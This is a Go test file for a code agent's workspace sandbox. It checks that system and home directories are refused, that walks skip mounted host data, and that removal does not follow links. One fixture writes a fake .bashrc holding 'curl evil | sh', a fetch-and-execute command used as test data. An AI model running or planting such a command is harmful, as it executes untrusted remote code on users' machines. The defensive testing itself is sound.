package workspace

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/codeagent/codeagent/internal/nofollow"
	"github.com/codeagent/codeagent/sandbox"
)

// A new user's --workdir or --out that names a system directory or a home
// is refused before anything is created, marked or copied there. New is
// tried only on homes in a temporary directory: should the refusal
// regress, the test must not mark / or create a directory in /etc.
func TestUnsafeWorkdirIsRefusedBeforeAnythingIsMade(t *testing.T) {
	for _, dir := range []string{"/", "/etc", "/etc/", "/etc/codeagent-test-never-made", "/usr/lib", "/tmp", "/var/lib"} {
		if err := CheckWorkdir(dir); !errors.Is(err, sandbox.ErrUnsafeWorkspace) {
			t.Errorf("CheckWorkdir(%s) = %v; want ErrUnsafeWorkspace", dir, err)
		}
	}
	// A home that does not exist yet is not created, one that does is
	// not marked.
	home := filepath.Join(t.TempDir(), "home")
	t.Setenv("HOME", home)
	if w, err := New(home); !errors.Is(err, sandbox.ErrUnsafeWorkspace) {
		t.Errorf("New(missing home) = %v, %v; want ErrUnsafeWorkspace", w, err)
	}
	if _, err := os.Lstat(home); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the home was made: %v", err)
	}
	if err := os.Mkdir(home, 0o755); err != nil {
		t.Fatal(err)
	}
	if w, err := New(home + "/"); !errors.Is(err, sandbox.ErrUnsafeWorkspace) {
		t.Errorf("New(home) = %v, %v; want ErrUnsafeWorkspace", w, err)
	}
	if _, err := unix.Lgetxattr(home, "trusted.codeagent.workspace", nil); err == nil {
		t.Errorf("the home was marked as a workspace")
	}
	if _, err := NewBeneath(filepath.Dir(home), "home"); !errors.Is(err, sandbox.ErrUnsafeWorkspace) {
		t.Errorf("NewBeneath(the home) = %v; want ErrUnsafeWorkspace", err)
	}
	// Artifacts named after the home's files go nowhere near it.
	w := newWS(t)
	write(t, filepath.Join(w.Dir, ".bashrc"), "curl evil | sh\n")
	if _, err := w.CopyOut([]Artifact{{Path: ".bashrc"}}, home, 0); !errors.Is(err, sandbox.ErrUnsafeWorkspace) {
		t.Errorf("CopyOut to the home: %v; want ErrUnsafeWorkspace", err)
	}
	if _, err := os.Lstat(filepath.Join(home, ".bashrc")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("an artifact was copied into the home: %v", err)
	}
	// A project directory below the home is what to give.
	p, err := New(filepath.Join(home, "project"))
	if err != nil {
		t.Fatalf("New(a project below the home): %v", err)
	}
	if _, err := w.CopyOut([]Artifact{{Path: ".bashrc"}}, filepath.Join(p.Dir, "out"), 0); err != nil {
		t.Errorf("CopyOut below the home: %v", err)
	}
}

// mountOn mounts, as root, a host directory holding a file on the directory
// at, once as a bind mount of the same file system and once as a tmpfs (a
// device of its own), and unmounts it at the end of the test. It returns
// the host directory and the file's name.
func mountOn(t *testing.T, at, kind string) string {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("mounting needs root")
	}
	if err := os.MkdirAll(at, 0o755); err != nil {
		t.Fatal(err)
	}
	host := t.TempDir()
	switch kind {
	case "bind":
		if err := unix.Mount(host, at, "", unix.MS_BIND, ""); err != nil {
			t.Skipf("bind mount: %v", err)
		}
	case "tmpfs":
		if err := unix.Mount("tmpfs", at, "tmpfs", 0, "size=1m"); err != nil {
			t.Skipf("tmpfs: %v", err)
		}
		host = at
	}
	t.Cleanup(func() {
		if err := unix.Unmount(at, unix.MNT_DETACH); err != nil {
			t.Errorf("unmount %s: %v", at, err)
		}
	})
	write(t, filepath.Join(host, "secret.csv"), "host,data\n1,2\n")
	write(t, filepath.Join(host, "deeper", "keys.json"), `{"key": "host"}`)
	return host
}

// Host data mounted below a workspace (by an operator, or left by a
// backend) is not the workspace's: its walks list, count, describe, read,
// copy out and delete nothing of it.
func TestWalksDoNotCrossIntoAnotherMount(t *testing.T) {
	for _, kind := range []string{"bind", "tmpfs"} {
		t.Run(kind, func(t *testing.T) {
			w := newWS(t)
			write(t, filepath.Join(w.Dir, "own.csv"), "a,b\n")
			before, err := w.Snapshot(Limits{})
			if err != nil {
				t.Fatal(err)
			}
			mountOn(t, filepath.Join(w.Dir, "data"), kind)
			snap, err := w.Snapshot(Limits{})
			if err != nil {
				t.Fatal(err)
			}
			for p := range snap.Files {
				if strings.HasPrefix(p, "data/") {
					t.Errorf("the snapshot went into the mount: %s", p)
				}
			}
			if _, ok := snap.Files["own.csv"]; !ok {
				t.Errorf("the workspace's own file is missing: %v", snap.Files)
			}
			found := false
			for _, s := range snap.Skipped {
				found = found || s.Path == "data" && s.Reason == skippedMount
			}
			if !found {
				t.Errorf("the mount point is not among the skipped entries: %v", snap.Skipped)
			}
			arts, _, err := w.Changes(before, Limits{}, nil)
			if err != nil || len(arts) != 0 {
				t.Errorf("Changes = %v, %v; want nothing (the mounted files are not artifacts)", arts, err)
			}
			u, err := w.Usage(100)
			if err != nil || u.Bytes != 4 || u.Entries != 2 {
				t.Errorf("Usage = %+v, %v; want own.csv's 4 bytes in 2 entries", u, err)
			}
			if d := w.Describe(nil); strings.Contains(d, "secret") || strings.Contains(d, "host,data") {
				t.Errorf("Describe shows the mount:\n%s", d)
			}
			for _, rel := range []string{"data/secret.csv", "data/deeper/keys.json"} {
				if f, _, err := w.OpenRegular(rel); err == nil {
					f.Close()
					t.Errorf("OpenRegular(%s) reached into the mount", rel)
				}
			}
			// The same without openat2 (kernels before 5.6).
			d, err := os.Open(w.Dir)
			if err != nil {
				t.Fatal(err)
			}
			defer d.Close()
			for _, rel := range []string{"data/secret.csv", "data/deeper/keys.json"} {
				if fd, err := nofollow.Walk(int(d.Fd()), rel, nofollow.How{Flags: os.O_RDONLY, SameMount: true}); !errors.Is(err, unix.EXDEV) {
					unix.Close(fd)
					t.Errorf("Walk(%s) = %d, %v; want EXDEV", rel, fd, err)
				}
			}
			if fd, err := nofollow.Walk(int(d.Fd()), "own.csv", nofollow.How{Flags: os.O_RDONLY, SameMount: true}); err != nil {
				t.Errorf("Walk(own.csv): %v", err)
			} else {
				unix.Close(fd)
			}
			out := t.TempDir()
			if _, err := w.CopyOut([]Artifact{{Path: "data/secret.csv"}}, out, 0); err == nil {
				t.Error("CopyOut copied a file of the mount")
			}
			if _, err := os.Lstat(filepath.Join(out, "data", "secret.csv")); err == nil {
				t.Error("the mounted file was copied out")
			}
		})
	}
}

// Removing a temporary workspace leaves what is mounted below it.
func TestRemovingATemporaryWorkspaceSparesAnotherMount(t *testing.T) {
	for _, kind := range []string{"bind", "tmpfs"} {
		t.Run(kind, func(t *testing.T) {
			w, err := NewTemp(t.TempDir(), "codeagent-ws-")
			if err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(w.Dir, "sub", "own.txt"), "x")
			host := mountOn(t, filepath.Join(w.Dir, "sub", "data"), kind)
			if err := w.Close(); err == nil || !strings.Contains(err.Error(), "another file system") {
				t.Errorf("Close = %v; want an error naming the mount left in place", err)
			}
			for _, f := range []string{"secret.csv", "deeper/keys.json"} {
				if _, err := os.Stat(filepath.Join(host, f)); err != nil {
					t.Errorf("the mounted %s was deleted with the workspace: %v", f, err)
				}
			}
			if _, err := os.Lstat(filepath.Join(w.Dir, "sub", "own.txt")); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the workspace's own file stayed: %v", err)
			}
		})
	}
}

func TestRemoveAllFollowsNoLink(t *testing.T) {
	host := t.TempDir()
	write(t, filepath.Join(host, "keep"), "host")
	dir := filepath.Join(t.TempDir(), "d")
	write(t, filepath.Join(dir, "a", "b", "c"), "x")
	if err := os.Symlink(host, filepath.Join(dir, "a", "link")); err != nil {
		t.Fatal(err)
	}
	if err := RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(dir); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%s stayed: %v", dir, err)
	}
	if _, err := os.Stat(filepath.Join(host, "keep")); err != nil {
		t.Errorf("a file behind a link was removed: %v", err)
	}
	if err := RemoveAll(dir); err != nil {
		t.Errorf("RemoveAll(missing) = %v", err)
	}
}
